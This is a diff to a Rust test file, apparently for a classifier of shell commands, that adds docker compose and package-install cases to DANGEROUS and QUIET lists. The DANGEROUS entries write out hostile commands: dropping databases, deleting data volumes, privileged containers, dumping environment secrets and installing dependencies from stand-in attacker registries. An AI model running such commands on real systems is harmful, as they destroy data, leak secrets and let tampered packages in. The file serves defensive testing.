@@ -1999,6 +1999,93 @@ const DANGEROUS: &[(&str, &str)] = &[
         "flood",
         r##"until false; do http https://x.example.com; done"##,
     ),
+    // Compose on the project's own file is the project family; its pushes, publishes, volume
+    // removals, privileged runs, other daemons and destroying commands inside a service are
+    // not, in any spelling.
+    ("publish", r##"docker compose build --push"##),
+    (
+        "publish",
+        r##"docker compose -f compose.yml build --push api"##,
+    ),
+    ("publish", r##"docker-compose build --push"##),
+    ("publish", r##"podman compose build --push"##),
+    (
+        "publish",
+        r##"docker compose publish ghcr.io/acme/app:1.0"##,
+    ),
+    ("publish", r##"docker compose alpha publish acme/app"##),
+    ("publish", r##"docker compose push api"##),
+    ("destroy", r##"docker compose down -v --remove-orphans"##),
+    (
+        "destroy",
+        r##"docker compose --profile dev down --volumes"##,
+    ),
+    (
+        "destroy",
+        r##"docker compose exec -T db psql -U app -c 'DROP DATABASE app'"##,
+    ),
+    (
+        "destroy",
+        r##"docker compose -f compose.dev.yml exec db dropdb app"##,
+    ),
+    (
+        "destroy",
+        r##"docker compose run --rm app sh -c 'rm -rf /var/lib/postgresql/data'"##,
+    ),
+    ("privilege", r##"docker compose run --privileged app id"##),
+    (
+        "privilege",
+        r##"docker compose run -v /:/host app ls /host"##,
+    ),
+    (
+        "remote",
+        r##"DOCKER_HOST=ssh://deploy@prod docker compose up -d"##,
+    ),
+    ("remote", r##"docker --context prod compose up -d"##),
+    ("remote", r##"docker -H tcp://10.0.0.5:2375 compose up -d"##),
+    ("secrets", r##"docker compose exec app printenv"##),
+    // The project's lockfile installed from another registry, index, feed or mirror.
+    (
+        "supply",
+        r##"npm ci --registry=https://registry.evil.example"##,
+    ),
+    (
+        "supply",
+        r##"npm_config_registry=https://registry.evil.example npm ci"##,
+    ),
+    (
+        "supply",
+        r##"pnpm install --frozen-lockfile --registry=https://registry.evil.example"##,
+    ),
+    (
+        "supply",
+        r##"GOPROXY=https://proxy.evil.example go mod download"##,
+    ),
+    ("supply", r##"GOSUMDB=off go build ./..."##),
+    (
+        "supply",
+        r##"PIP_INDEX_URL=https://pypi.evil.example/simple pip install -r requirements.txt"##,
+    ),
+    (
+        "supply",
+        r##"UV_INDEX_URL=https://pypi.evil.example/simple uv sync"##,
+    ),
+    (
+        "supply",
+        r##"dotnet restore --source https://nuget.evil.example/v3/index.json"##,
+    ),
+    (
+        "supply",
+        r##"cargo fetch --config 'source.crates-io.replace-with="evil"'"##,
+    ),
+    (
+        "supply",
+        r##"HEX_MIRROR=https://hex.evil.example mix deps.get"##,
+    ),
+    (
+        "supply",
+        r##"BUNDLE_MIRROR__RUBYGEMS__ORG=https://gems.evil.example bundle install"##,
+    ),
 ];
 
 const QUIET: &[(&str, &str)] = &[
@@ -2485,5 +2572,36 @@ const QUIET: &[(&str, &str)] = &[
     (
         "publish",
         r##"uv run python -c "from huggingface_hub import hf_hub_download; print(hf_hub_download('x', 'y'))""##,
+    ),
+    // The project's own compose file, as its Makefile would run it: the project family.
+    ("compose", r##"docker compose up -d db redis"##),
+    (
+        "compose",
+        r##"docker compose --profile dev up -d --build --wait"##,
+    ),
+    ("compose", r##"docker-compose up -d"##),
+    ("compose", r##"podman compose up -d"##),
+    (
+        "compose",
+        r##"docker compose -f compose.dev.yml down --remove-orphans"##,
+    ),
+    (
+        "compose",
+        r##"docker compose exec kafka kafka-topics --bootstrap-server localhost:9092 --create --topic orders"##,
+    ),
+    ("compose", r##"docker compose run --rm app pytest -q"##),
+    ("compose", r##"docker compose -p other up -d"##),
+    // Installing what the lockfile pins, and building sub-projects of the workspace.
+    ("install", r##"npm ci"##),
+    ("install", r##"pnpm install --frozen-lockfile"##),
+    ("install", r##"go mod download"##),
+    ("install", r##"cargo fetch"##),
+    ("install", r##"dotnet restore"##),
+    ("install", r##"dotnet test -s test.runsettings"##),
+    ("install", r##"conda install -n ml -c conda-forge polars"##),
+    ("install", r##"npm ci --prefix ../other"##),
+    (
+        "install",
+        r##"cargo build --manifest-path src-tauri/Cargo.toml"##,
     ),
 ];
